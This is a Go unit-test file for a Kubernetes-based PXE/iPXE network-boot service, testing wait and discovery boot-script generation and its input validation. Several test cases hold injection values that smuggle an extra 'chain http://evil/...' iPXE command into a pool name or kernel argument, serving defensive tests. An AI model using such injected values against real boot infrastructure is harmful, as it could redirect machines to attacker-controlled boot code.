package httpboot

import (
	"strings"
	"testing"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	kubefarmv1 "github.com/kubefarm/kubefarm/api/v1alpha1"
	"github.com/kubefarm/kubefarm/pxe/dynamic"
)

func catchAll(policy kubefarmv1.UnknownMachinePolicy) *kubefarmv1.NodePool {
	p := pool()
	p.Spec.Network = kubefarmv1.BootNetwork{Subnet: "10.0.0.0/24",
		DynamicRange: &kubefarmv1.DynamicRange{Start: "10.0.0.100", End: "10.0.0.200", UnknownMachines: policy}}
	return p
}

func TestDecideUnclaimed(t *testing.T) {
	held := dynamic.Held{Namespace: "t1", Pool: "workers", MAC: "02:00:00:00:00:09", IP: "10.0.0.150"}
	deleting := catchAll(kubefarmv1.UnknownJoin)
	deleting.DeletionTimestamp = &metav1.Time{Time: time.Now()}
	other := catchAll(kubefarmv1.UnknownJoin)
	other.Name = "other"
	noRange := pool()
	for _, tc := range []struct {
		name      string
		held      dynamic.Held
		ok        bool
		pool      *kubefarmv1.NodePool
		discovery bool
		round     int
		want      UnclaimedBoot
	}{
		{"no lease", dynamic.Held{}, false, catchAll(kubefarmv1.UnknownJoin), true, 0, UnclaimedNone},
		{"lease, pool gone", held, true, nil, true, 0, UnclaimedNone},
		{"lease, pool being deleted", held, true, deleting, true, 0, UnclaimedNone},
		{"lease of another pool", held, true, other, true, 0, UnclaimedNone},
		{"pool without a range now", held, true, noRange, true, 0, UnclaimedNone},
		{"join waits", held, true, catchAll(kubefarmv1.UnknownJoin), false, 0, UnclaimedWait},
		{"join waits with discovery on too", held, true, catchAll(kubefarmv1.UnknownJoin), true, 7, UnclaimedWait},
		{"join, last round", held, true, catchAll(kubefarmv1.UnknownJoin), false, MaxWaitRounds - 1, UnclaimedWait},
		{"join, rounds spent", held, true, catchAll(kubefarmv1.UnknownJoin), false, MaxWaitRounds, UnclaimedNone},
		{"join, bad round", held, true, catchAll(kubefarmv1.UnknownJoin), false, -1, UnclaimedNone},
		{"hold with discovery", held, true, catchAll(kubefarmv1.UnknownHold), true, 0, UnclaimedDiscover},
		{"unset is hold", held, true, catchAll(""), true, 0, UnclaimedDiscover},
		{"hold without discovery", held, true, catchAll(kubefarmv1.UnknownHold), false, 0, UnclaimedNone},
		{"unknown policy", held, true, catchAll("Adopt"), true, 0, UnclaimedNone},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := DecideUnclaimed(tc.held, tc.ok, tc.pool, tc.discovery, tc.round); got != tc.want {
				t.Errorf("DecideUnclaimed = %s, want %s", got, tc.want)
			}
		})
	}
}

func TestWaitRound(t *testing.T) {
	for in, want := range map[string]int{"": 0, "0": 0, "7": 7, "59": 59, "999": 999, "1000": -1, "-1": -1, "x": -1, "1e2": -1, " 1": -1} {
		if got := WaitRound(in); got != want {
			t.Errorf("WaitRound(%q) = %d, want %d", in, got, want)
		}
	}
}

func TestWaitScript(t *testing.T) {
	got, err := WaitScript(base, "02:00:00:00:00:09", "t1/workers", 3)
	if err != nil {
		t.Fatal(err)
	}
	want := "#!ipxe\n" +
		"echo kubefarm: waiting for the Machine of 02:00:00:00:00:09 in pool t1/workers (unknownMachines: Join), round 4 of 60\n" +
		"sleep 5\n" +
		"dhcp\n" +
		"chain --replace --autofree " + base + "/boot/02:00:00:00:00:09.ipxe?wait=4\n"
	if got != want {
		t.Errorf("script:\n%s\nwant:\n%s", got, want)
	}
	for _, tc := range []struct{ base, mac, pool, err string }{
		{"http://evil host", "02:00:00:00:00:09", "t1/workers", "base URL"},
		{base, "${netX/mac}", "t1/workers", "not a 6-byte MAC"},
		{base, "02:00:00:00:00:09", "t1/workers\nchain http://evil/", "not a namespace/name"},
		{base, "02:00:00:00:00:09", "workers", "not a namespace/name"},
	} {
		if _, err := WaitScript(tc.base, tc.mac, tc.pool, 0); err == nil || !strings.Contains(err.Error(), tc.err) {
			t.Errorf("WaitScript(%q, %q, %q): %v, want %q", tc.base, tc.mac, tc.pool, err, tc.err)
		}
	}
}

func TestDiscoveryScript(t *testing.T) {
	img := image("new", dK, dI, dR)
	p := catchAll(kubefarmv1.UnknownHold)
	got, err := DiscoveryScript(img, p, base)
	if err != nil {
		t.Fatal(err)
	}
	want := "#!ipxe\n" + amd64Check +
		"kernel " + base + "/artifacts/" + dK + " console=ttyS0,115200n8 quiet" +
		" initrd=initrd kubefarm.image=" + dR + " kubefarm.rootfs=" + base + "/artifacts/" + dR + " kubefarm.server=" + base +
		" BOOTIF=01-${netX/mac:hexhyp} kubefarm.mode=discover\n" +
		"initrd --name initrd " + base + "/artifacts/" + dI + "\n" +
		"boot\n" + refusal(img.Name, "amd64")
	if got != want {
		t.Errorf("script:\n%s\nwant:\n%s", got, want)
	}
	// Nothing of a boot's credential: no secret initrd, no /secret URL.
	for _, bad := range []string{"bootsecret", "/secret/", "/config/"} {
		if strings.Contains(got, bad) {
			t.Errorf("discovery script names %q:\n%s", bad, got)
		}
	}

	for _, tc := range []struct {
		name string
		img  *kubefarmv1.BootImage
		pool func(*kubefarmv1.NodePool)
		err  string
	}{
		{"not the pool's image", image("old", dK, dI, dR), nil, `is not pool t1/workers's image "new"`},
		{"bad digest", image("new", "sha256:xyz", dI, dR), nil, "invalid digest"},
		{"pool arg injects a command", img, func(p *kubefarmv1.NodePool) { p.Spec.KernelArgs = []string{"a\nchain http://evil/x"} }, "whitespace"},
		{"pool arg sets the mode", img, func(p *kubefarmv1.NodePool) { p.Spec.KernelArgs = []string{"kubefarm.mode=join"} }, "reserved"},
		{"command line too long", img, func(p *kubefarmv1.NodePool) {
			p.Spec.KernelArgs = []string{strings.Repeat("a", 500), strings.Repeat("b", 500), strings.Repeat("c", 500), strings.Repeat("d", 500)}
		}, "kernel command line"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := catchAll(kubefarmv1.UnknownHold)
			if tc.pool != nil {
				tc.pool(p)
			}
			if _, err := DiscoveryScript(tc.img, p, base); err == nil || !strings.Contains(err.Error(), tc.err) {
				t.Errorf("error %v, want %q", err, tc.err)
			}
		})
	}
}
